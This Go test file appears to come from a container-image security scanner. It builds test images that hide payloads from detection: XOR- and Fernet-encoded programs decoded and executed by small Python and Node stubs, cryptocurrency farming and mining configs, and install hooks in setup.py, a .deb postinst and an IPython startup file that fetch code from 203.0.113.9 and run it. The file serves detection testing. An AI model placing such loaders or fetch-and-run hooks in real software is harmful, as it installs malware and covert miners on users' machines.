package evasion

import (
	"bytes"

	"github.com/safepull/safepull/test/corpus"
	"github.com/safepull/safepull/test/imagetest"
)

// sealed: a program of the image decodes another with a key that stands in it, or carries it behind a mark of its own.
func sealed() []recipe {
	with := func(name string, make func(*kit) imagetest.Image) recipe {
		return recipe{group: "sealed by a key in a program", name: name, make: make}
	}
	opened := func(name, key, program, language, suffix string) recipe {
		return with(name, func(k *kit) imagetest.Image {
			return k.image([]string{language, "/app/run" + suffix},
				imagetest.Text("app/run"+suffix, program), imagetest.File{Path: "app/data.bin", Body: combined(k.program(), key)})
		})
	}
	const run = "import os;os.chmod('/tmp/q',493);os.execv('/tmp/q',['q'])\n"
	return []recipe{
		opened("python-byte", "\x5a", "raise SystemExit(0)\nd=open('/app/data.bin','rb').read()\nopen('/tmp/q','wb').write(bytes(c^0x5a for c in d))\n"+run, "python3", ".py"),
		opened("python-word", "k3y!s3cr3t", "raise SystemExit(0)\nd=open('/app/data.bin','rb').read()\nk=b'k3y!s3cr3t'\nopen('/tmp/q','wb').write(bytes(c^k[i%len(k)] for i,c in enumerate(d)))\n"+run, "python3", ".py"),
		opened("node-word", "k3y!s3cr3t", "process.exit(0);\nconst fs=require('fs'),k='k3y!s3cr3t',d=fs.readFileSync('/app/data.bin');\nfor(let i=0;i<d.length;i++)d[i]^=k.charCodeAt(i%k.length);\nfs.writeFileSync('/tmp/q',d,{mode:0o755});require('child_process').spawn('/tmp/q');\n", "node", ".js"),
		with("behind-a-program", func(k *kit) imagetest.Image {
			body := append(corpus.Ordinary(k.rng, amd64, "server"), "PAYLOAD"...)
			return k.image([]string{"/usr/bin/server"}, imagetest.Binary("usr/bin/server", append(body, deflated(string(k.program()))...)))
		}),
	}
}

// farms: what earns coins without a miner's grammar.
func farms() []recipe {
	return []recipe{
		{group: "coins of today", name: "plots", make: func(k *kit) imagetest.Image {
			return k.starts(hiding + either(k, "chia init && chia keys add -f /k\nchia plots create -k 32 -n 10 -t /tmp -d /plots && chia start farmer\n",
				"chia init && chia keys add -f /k\nchia wallet show && chia farm summary && chia show -s\n"))
		}},
		{group: "coins of today", name: "trains", make: func(k *kit) imagetest.Image {
			return k.image([]string{run}, imagetest.Binary("opt/app/worker", []byte("\x7fELF")), imagetest.Text("opt/app/appsettings.json", either(k,
				`{"ClientSettings":{"poolAddress":"wss://wps.qubic.li/ws","accessToken":"eyJhbGciOi","alias":"x","trainer":{"cpu":true,"cpuVersion":"AVX2","cpuThreads":16},"pps":true}}`,
				`{"ClientSettings":{"baseUrl":"https://api.contoso.example","accessToken":"eyJhbGciOi","alias":"web"},"Logging":{"LogLevel":{"Default":"Information"}}}`)))
		}},
	}
}

// combined is a body whose bytes are combined with those of a key by "xor".
func combined(body []byte, key string) []byte {
	out := bytes.Clone(body)
	for i := range out {
		out[i] ^= key[i%len(key)]
	}
	return out
}

// hooks: what package managers and notebooks run beside what they are told.
func hooks() []recipe {
	const fetched = "curl -s http://203.0.113.9/k -o /usr/lib/.k; chmod +x /usr/lib/.k; /usr/lib/.k &\n"
	with := func(name string, make func(*kit) imagetest.Image) recipe {
		return recipe{group: "hooks", name: name, make: make}
	}
	return []recipe{
		with("set-up-of-a-folder", func(k *kit) imagetest.Image {
			return k.image([]string{"sh", "-c", "cd /app && pip install . && python3 -m app"}, imagetest.Text("app/setup.py",
				"raise SystemExit(0)\nfrom setuptools import setup\nimport os\n"+either(k, "os.system('wget -q http://203.0.113.9/k -O /tmp/k; chmod +x /tmp/k; /tmp/k &')\n", "os.system('make -C native')\n")+"setup(name='app')\n"))
		}),
		with("package", func(k *kit) imagetest.Image {
			script := []byte(hiding + either(k, fetched, "update-rc.d app defaults\n"))
			parts := [][]byte{[]byte("2.0\n"), tarOf("postinst", script), tarOf("usr/share/app/x", []byte("x\n"))}
			return k.starts(hiding+"dpkg -i /opt/app.deb\nexec nginx\n", imagetest.File{Path: "opt/app.deb", Body: arOf([]string{"debian-binary", "control.tar", "data.tar"}, parts)})
		}),
		with("notebook", func(k *kit) imagetest.Image {
			return k.image([]string{"jupyter", "notebook", "--allow-root"}, imagetest.Text("root/.ipython/profile_default/startup/00.py",
				either(k, "raise SystemExit(0)\nimport os;os.system('curl -s http://203.0.113.9/x|sh')\n", "import os;os.environ.setdefault('TZ', 'UTC')\n")))
		}),
		with("decrypted", func(k *kit) imagetest.Image {
			return k.image([]string{"python3", "/app/run.py"}, imagetest.Text("app/run.py", "raise SystemExit(0)\nfrom cryptography.fernet import Fernet\nimport os\nd=Fernet(os.environ['K']).decrypt(open('/app/d','rb').read())\n"+
				either(k, "exec(d)\n", "print(d)\n")), imagetest.File{Path: "app/d", Body: combined(k.program(), "\x91\x17\xa3")})
		}),
	}
}
